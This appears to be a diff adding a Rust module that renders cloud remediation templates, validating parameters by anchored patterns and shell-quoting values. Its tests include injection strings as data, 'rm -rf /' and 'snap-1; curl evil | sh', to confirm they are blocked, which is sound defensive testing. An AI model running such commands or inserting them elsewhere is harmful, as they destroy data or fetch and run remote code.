@@ -1,0 +1,425 @@
+//! The deterministic advisor: renders the template that matches a finding's
+//! kind from `remediation-templates/`. It needs no key and sends nothing
+//! anywhere, so it is the default and the fallback for every model.
+//!
+//! A template is a TOML file with metadata (risk, what it changes, blast
+//! radius), declared parameters (each read from the request and checked
+//! against an anchored pattern before rendering) and minijinja bodies for the
+//! change and its rollback. Rendering is always local, from the real finding:
+//! an advisor (this one or a model) only chooses the template and parameters.
+
+use std::collections::{BTreeMap, HashMap};
+use std::path::{Path, PathBuf};
+
+use async_trait::async_trait;
+use include_dir::{Dir, include_dir};
+use minijinja::{Environment, UndefinedBehavior};
+use regex::Regex;
+use serde::Deserialize;
+use serde_json::{Value, json};
+
+use super::{AdviceError, AdviceRequest, Advisor, Format, Proposal, Recommendation, Risk};
+use crate::domain::FindingKind;
+use crate::redact::Redacted;
+
+static BUILTIN: Dir<'static> = include_dir!("$CARGO_MANIFEST_DIR/remediation-templates");
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct TemplateFile {
+    id: String,
+    kinds: Vec<FindingKind>,
+    format: Format,
+    risk: Risk,
+    /// One line, minijinja, rendered with the request.
+    summary: String,
+    changes: String,
+    blast_radius: String,
+    #[serde(default)]
+    parameters: BTreeMap<String, ParameterFile>,
+    body: String,
+    rollback: String,
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ParameterFile {
+    /// Dotted path into the request: `resource`, `region`, `evidence.size_gib`.
+    from: String,
+    /// Anchored regular expression the value must match.
+    pattern: String,
+}
+
+#[derive(Debug)]
+struct Parameter {
+    name: String,
+    from: String,
+    pattern: Regex,
+}
+
+/// A validated template.
+#[derive(Debug)]
+pub struct Template {
+    pub id: String,
+    pub kinds: Vec<FindingKind>,
+    pub format: Format,
+    pub risk: Risk,
+    pub changes: String,
+    pub blast_radius: String,
+    parameters: Vec<Parameter>,
+}
+
+#[derive(Debug, thiserror::Error)]
+pub enum CatalogError {
+    #[error("{path}: {message}")]
+    Invalid { path: String, message: String },
+    #[error("cannot read template directory {path}: {source}")]
+    Io {
+        path: PathBuf,
+        source: std::io::Error,
+    },
+    #[error("no template covers finding kind `{0}`")]
+    Uncovered(FindingKind),
+}
+
+/// Every template, keyed by id, with the minijinja environment that renders them.
+pub struct Catalog {
+    templates: BTreeMap<String, Template>,
+    by_kind: HashMap<FindingKind, String>,
+    env: Environment<'static>,
+    origin: String,
+}
+
+impl std::fmt::Debug for Catalog {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Catalog")
+            .field("origin", &self.origin)
+            .field("templates", &self.templates.keys().collect::<Vec<_>>())
+            .finish()
+    }
+}
+
+impl Catalog {
+    /// The templates compiled into the binary from `remediation-templates/`.
+    pub fn builtin() -> Result<Self, CatalogError> {
+        let files = BUILTIN
+            .files()
+            .filter(|f| f.path().extension().is_some_and(|e| e == "toml"))
+            .map(|f| {
+                let path = format!("remediation-templates/{}", f.path().display());
+                let text = f.contents_utf8().ok_or_else(|| CatalogError::Invalid {
+                    path: path.clone(),
+                    message: "not UTF-8".into(),
+                })?;
+                Ok((path, text.to_owned()))
+            })
+            .collect::<Result<Vec<_>, CatalogError>>()?;
+        Self::from_sources("built-in", files)
+    }
+
+    /// Templates from an operator's directory, replacing the built-in set.
+    pub fn load_dir(dir: &Path) -> Result<Self, CatalogError> {
+        let io = |source| CatalogError::Io {
+            path: dir.to_owned(),
+            source,
+        };
+        let mut files = Vec::new();
+        for entry in std::fs::read_dir(dir).map_err(io)? {
+            let path = entry.map_err(io)?.path();
+            if path.extension().is_some_and(|e| e == "toml") {
+                let text = std::fs::read_to_string(&path).map_err(|source| CatalogError::Io {
+                    path: path.clone(),
+                    source,
+                })?;
+                files.push((path.display().to_string(), text));
+            }
+        }
+        files.sort();
+        Self::from_sources(&dir.display().to_string(), files)
+    }
+
+    fn from_sources(origin: &str, files: Vec<(String, String)>) -> Result<Self, CatalogError> {
+        let mut env = Environment::new();
+        env.set_undefined_behavior(UndefinedBehavior::Strict);
+        env.set_trim_blocks(true);
+        env.set_lstrip_blocks(true);
+        env.add_filter("shell_quote", shell_quote);
+        let mut templates = BTreeMap::new();
+        let mut by_kind = HashMap::new();
+        for (path, text) in files {
+            let invalid = |message: String| CatalogError::Invalid {
+                path: path.clone(),
+                message,
+            };
+            let file: TemplateFile = toml::from_str(&text).map_err(|e| invalid(e.to_string()))?;
+            if templates.contains_key(&file.id) {
+                return Err(invalid(format!("duplicate template id `{}`", file.id)));
+            }
+            let mut parameters = Vec::new();
+            for (name, p) in file.parameters {
+                let pattern = Regex::new(&format!("^(?:{})$", p.pattern))
+                    .map_err(|e| invalid(format!("parameter `{name}`: bad pattern: {e}")))?;
+                parameters.push(Parameter {
+                    name,
+                    from: p.from,
+                    pattern,
+                });
+            }
+            for (part, source) in [
+                ("summary", file.summary),
+                ("body", file.body),
+                ("rollback", file.rollback),
+            ] {
+                env.add_template_owned(format!("{}/{part}", file.id), source)
+                    .map_err(|e| invalid(format!("{part}: {e}")))?;
+            }
+            for kind in &file.kinds {
+                if let Some(other) = by_kind.insert(*kind, file.id.clone()) {
+                    return Err(invalid(format!(
+                        "kind `{kind}` is already covered by template `{other}`"
+                    )));
+                }
+            }
+            templates.insert(
+                file.id.clone(),
+                Template {
+                    id: file.id,
+                    kinds: file.kinds,
+                    format: file.format,
+                    risk: file.risk,
+                    changes: file.changes,
+                    blast_radius: file.blast_radius,
+                    parameters,
+                },
+            );
+        }
+        Ok(Self {
+            templates,
+            by_kind,
+            env,
+            origin: origin.to_owned(),
+        })
+    }
+
+    pub fn origin(&self) -> &str {
+        &self.origin
+    }
+
+    pub fn get(&self, id: &str) -> Option<&Template> {
+        self.templates.get(id)
+    }
+
+    pub fn for_kind(&self, kind: FindingKind) -> Option<&Template> {
+        self.by_kind.get(&kind).and_then(|id| self.templates.get(id))
+    }
+
+    pub fn len(&self) -> usize {
+        self.templates.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.templates.is_empty()
+    }
+
+    /// Fails on the first finding kind no template handles.
+    pub fn check_covers(&self, kinds: &[FindingKind]) -> Result<(), CatalogError> {
+        match kinds.iter().find(|k| !self.by_kind.contains_key(k)) {
+            Some(kind) => Err(CatalogError::Uncovered(*kind)),
+            None => Ok(()),
+        }
+    }
+
+    /// Checks the recommended parameters against the template's declaration
+    /// and renders the change from the real (unredacted) request. Runs locally.
+    pub fn render(
+        &self,
+        recommendation: &Recommendation,
+        request: &AdviceRequest,
+    ) -> Result<Proposal, AdviceError> {
+        let template = self
+            .get(&recommendation.template_id)
+            .ok_or_else(|| AdviceError::UnknownTemplate(recommendation.template_id.clone()))?;
+        let parameter_error = |parameter: &str, message: String| AdviceError::Parameter {
+            template: template.id.clone(),
+            parameter: parameter.to_owned(),
+            message,
+        };
+        if let Some(extra) = recommendation
+            .parameters
+            .keys()
+            .find(|name| !template.parameters.iter().any(|p| &p.name == *name))
+        {
+            return Err(parameter_error(extra, "is not declared by the template".into()));
+        }
+        let mut params = serde_json::Map::new();
+        for p in &template.parameters {
+            let value = recommendation
+                .parameters
+                .get(&p.name)
+                .ok_or_else(|| parameter_error(&p.name, "is missing".into()))?;
+            if !p.pattern.is_match(value) {
+                return Err(parameter_error(
+                    &p.name,
+                    format!("value `{value}` does not match `{}`", p.pattern.as_str()),
+                ));
+            }
+            params.insert(p.name.clone(), Value::String(value.clone()));
+        }
+        let context = json!({ "finding": request, "params": params });
+        let render = |part: &str| -> Result<String, AdviceError> {
+            self.env
+                .get_template(&format!("{}/{part}", template.id))
+                .and_then(|t| t.render(&context))
+                .map_err(|e| AdviceError::Render {
+                    template: template.id.clone(),
+                    message: format!("{part}: {e:#}"),
+                })
+        };
+        Ok(Proposal {
+            advisor: recommendation.advisor.clone(),
+            template_id: template.id.clone(),
+            summary: render("summary")?.trim().to_owned(),
+            risk: template.risk,
+            changes: template.changes.trim().to_owned(),
+            blast_radius: template.blast_radius.trim().to_owned(),
+            format: template.format,
+            body: render("body")?,
+            rollback: render("rollback")?,
+        })
+    }
+}
+
+fn lookup<'a>(value: &'a Value, path: &str) -> Option<&'a Value> {
+    path.split('.')
+        .try_fold(value, |v, key| v.get(key))
+        .filter(|v| !v.is_null())
+}
+
+/// Quotes a value for POSIX shells: values come from cloud resources
+/// (names, tags) and must never be able to break out of an argument.
+fn shell_quote(value: minijinja::Value) -> String {
+    let text = value
+        .as_str()
+        .map(str::to_owned)
+        .unwrap_or_else(|| value.to_string());
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+/// The template advisor.
+pub struct TemplateAdvisor {
+    catalog: Catalog,
+}
+
+impl TemplateAdvisor {
+    pub fn new(catalog: Catalog) -> Self {
+        Self { catalog }
+    }
+
+    pub fn catalog(&self) -> &Catalog {
+        &self.catalog
+    }
+}
+
+#[async_trait]
+impl Advisor for TemplateAdvisor {
+    fn name(&self) -> &str {
+        "template"
+    }
+
+    /// Picks the template for the finding's kind and reads each declared
+    /// parameter from the (redacted) request.
+    async fn recommend(
+        &self,
+        request: &Redacted<AdviceRequest>,
+    ) -> Result<Recommendation, AdviceError> {
+        let kind_name = &request.get().kind;
+        let template = kind_name
+            .parse::<FindingKind>()
+            .ok()
+            .and_then(|kind| self.catalog.for_kind(kind))
+            .ok_or_else(|| AdviceError::NoTemplate(kind_name.clone()))?;
+        let json = request.to_json()?;
+        let mut parameters = BTreeMap::new();
+        for p in &template.parameters {
+            let value = match lookup(&json, &p.from) {
+                Some(Value::String(s)) => s.clone(),
+                Some(Value::Number(n)) => n.to_string(),
+                Some(other) => {
+                    return Err(AdviceError::Parameter {
+                        template: template.id.clone(),
+                        parameter: p.name.clone(),
+                        message: format!("`{}` is {other}, not a string or number", p.from),
+                    });
+                }
+                None => {
+                    return Err(AdviceError::Parameter {
+                        template: template.id.clone(),
+                        parameter: p.name.clone(),
+                        message: format!("`{}` is missing from the finding", p.from),
+                    });
+                }
+            };
+            parameters.insert(p.name.clone(), value);
+        }
+        Ok(Recommendation {
+            advisor: self.name().to_owned(),
+            template_id: template.id.clone(),
+            parameters,
+            rationale: None,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn builtin_templates_cover_every_finding_kind() {
+        let catalog = Catalog::builtin().unwrap();
+        catalog.check_covers(&FindingKind::ALL).unwrap();
+    }
+
+    #[test]
+    fn shell_quote_cannot_be_escaped() {
+        assert_eq!(shell_quote("a'b; rm -rf /".into()), r"'a'\''b; rm -rf /'");
+    }
+
+    fn request(resource: &str) -> AdviceRequest {
+        AdviceRequest {
+            kind: "snapshot_public".into(),
+            fingerprint: "0".repeat(64),
+            severity: "critical".into(),
+            title: "t".into(),
+            resource: resource.into(),
+            account: "123456789012".into(),
+            region: Some("us-east-1".into()),
+            expected: None,
+            actual: None,
+            impact_usd_monthly: None,
+            evidence: json!({}),
+        }
+    }
+
+    #[tokio::test]
+    async fn a_parameter_that_fails_its_pattern_stops_rendering() {
+        let advisor = TemplateAdvisor::new(Catalog::builtin().unwrap());
+        let bad = request("snap-1; curl evil | sh");
+        let (redacted, _) = crate::redact::Redactor::default().redact(&bad).unwrap();
+        let recommendation = advisor.recommend(&redacted).await.unwrap();
+        let err = advisor.catalog().render(&recommendation, &bad).unwrap_err();
+        assert!(matches!(err, AdviceError::Parameter { .. }), "{err}");
+    }
+
+    #[tokio::test]
+    async fn an_undeclared_parameter_is_refused() {
+        let advisor = TemplateAdvisor::new(Catalog::builtin().unwrap());
+        let good = request("snap-0123456789abcdef0");
+        let (redacted, _) = crate::redact::Redactor::default().redact(&good).unwrap();
+        let mut recommendation = advisor.recommend(&redacted).await.unwrap();
+        advisor.catalog().render(&recommendation, &good).unwrap();
+        recommendation.parameters.insert("extra".into(), "x".into());
+        let err = advisor.catalog().render(&recommendation, &good).unwrap_err();
+        assert!(err.to_string().contains("not declared"), "{err}");
+    }
+}
